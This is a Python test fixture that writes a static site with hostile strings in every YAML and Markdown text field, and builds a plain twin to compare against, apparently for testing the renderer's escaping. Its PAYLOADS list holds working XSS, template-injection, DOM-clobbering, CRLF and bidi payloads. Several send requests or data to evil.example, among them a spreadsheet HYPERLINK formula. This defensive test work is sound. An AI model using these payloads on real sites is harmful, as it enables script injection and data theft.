"""A site in which every text field of every kind of file holds something hostile, and its twin of plain words.

The payloads take turns, so that neighbouring fields hold different ones; the originals, and what quotes them, hold one.
The twin has the same ids and the same number of texts: what a page of the one has of elements, that of the other has.
"""

from __future__ import annotations

import hashlib
import json
from itertools import cycle

import rendering

# What each would do sets `window.ran`, or asks another host for something.
PAYLOADS = (
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=1>',
    "'><svg onload=window.ran=1>",
    "</title></style></textarea></noscript></template></script><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script><![CDATA[",
    "{{ 7 * 7 }}{% raw %}{{ frame.url }}{# x #}{% include 'site.yaml' %}",
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1',
    "' autofocus onfocus='window.ran=1' x='",
    '<a href="javascript:window.ran=1">x</a> javascript:window.ran=1 <a href="java&#10;script&colon;window.ran=1">',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src=//evil.example></iframe>',
    '<style>@import "https://evil.example/x.css"; p{background:url(https://evil.example/y)}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
    "<svg><foreignObject><body onload=window.ran=1></foreignObject><set attributeName=href to=javascript:1>",
    '","evil":{"@type":"ClaimReview"},"x":"',
    '\\"}]}</script><script>window.ran=1</script>',
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62; &quot; &#8238;",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\u061c\u200f<b>\u2067שלום (abc)\u2069</b> \u2067مرحبا\u2069",
    ";background:url(//evil.example/x);x:expression(window.ran=1)}",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E %00 %0d%0aSet-Cookie:%20x=1",
    "<link rel=stylesheet href=https://evil.example/x.css><object data=https://evil.example/x></object>",
    "<form action=https://evil.example/ id=filters><input name=rating id=rating-poor checked><button>x</button>",
    "<img name=documentElement src=https://evil.example/p.png><form name=body>",
    "constructor __proto__ toString ${window.ran=1} `window.ran=1`",
    "W" * 300,
)
_QUOTED = "<script>window.ran=1</script>\"'&<img src=//evil.example/x onerror=window.ran=1>"
PLAIN = "plain words"


def attacked(root, *, plain=False):
    """Write the site below `root`; `plain` gives the twin."""
    rendering.hostile(root)
    turns = cycle([PLAIN] if plain else PAYLOADS)
    quoted = PLAIN if plain else _QUOTED
    seed = root / "seeds/first.txt"
    seed.write_text(seed.read_text("utf-8").replace(rendering.HOSTILE, quoted), "utf-8")
    digest = hashlib.sha256(seed.read_bytes()).hexdigest()

    def altered(value, key=""):
        if isinstance(value, dict):
            return {altered(name): altered(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [altered(one, key) for one in value]
        if key == "sha256":
            return digest
        if isinstance(value, str) and rendering.HOSTILE in value:
            return value.replace(rendering.HOSTILE, quoted if key == "exact" else next(turns))
        return value

    for path in sorted((*root.rglob("*.yaml"), *root.rglob("*.md"))):
        text = path.read_text("utf-8")
        if path.suffix == ".yaml":
            path.write_text(json.dumps(altered(json.loads(text)), ensure_ascii=False, indent=1), "utf-8")
            continue
        front, body = text.removeprefix("---\n").split("\n---\n", 1)
        body = "\n\n".join(f"body {one}\n\n- item {one}" for one in ([PLAIN] * len(PAYLOADS) if plain else PAYLOADS))
        path.write_text(f"---\n{json.dumps(altered(json.loads(front)), ensure_ascii=False)}\n---\n\n{body}\n", "utf-8")
    rendering.equip(root)
